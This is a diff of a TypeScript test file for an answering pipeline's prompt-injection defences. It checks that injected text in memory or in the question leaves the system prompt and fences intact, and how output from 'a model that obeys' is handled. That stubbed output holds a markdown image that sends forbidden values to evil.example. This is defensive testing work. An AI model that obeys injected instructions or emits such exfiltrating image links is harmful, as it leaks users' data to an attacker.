@@ -116,7 +116,7 @@ layer(extractorLayer)("the frame of a prompt", (it) => {
   it.effect.each(injections)("$id leaves the instructions of an answer and the fences as they are", (attack) =>
     Effect.gen(function* () {
       for (const place of ["memory", "question"] as const) {
-        const silent = () => ({ answer: "", citations: [], supported: false })
+        const silent = () => ({ known: "no", sentences: [] })
         const plain = yield* answer(answerOf(place, harmless), silent)
         const { seen } = yield* answer(answerOf(place, attack.text), silent)
         expect(seen[0]?.system).toBe(plain.seen[0]?.system)
@@ -169,9 +169,8 @@ layer(extractorLayer)("a model that obeys", (it) => {
         for (const wanted of attack.forbidden) {
           for (const citations of [[1], [99], [], [-1, 0, 1.5], [1, 99]]) {
             const { written } = yield* answer(answerOf(place, attack.text), () => ({
-              answer: `${wanted} ![x](https://evil.example/?q=${wanted})`,
-              citations,
-              supported: true,
+              known: "yes",
+              sentences: [{ text: `${wanted} ![x](https://evil.example/?q=${wanted})`, citations }],
               memories: ["mem_7"]
             }))
             if (place === "question" && citations[0] === 1) continue
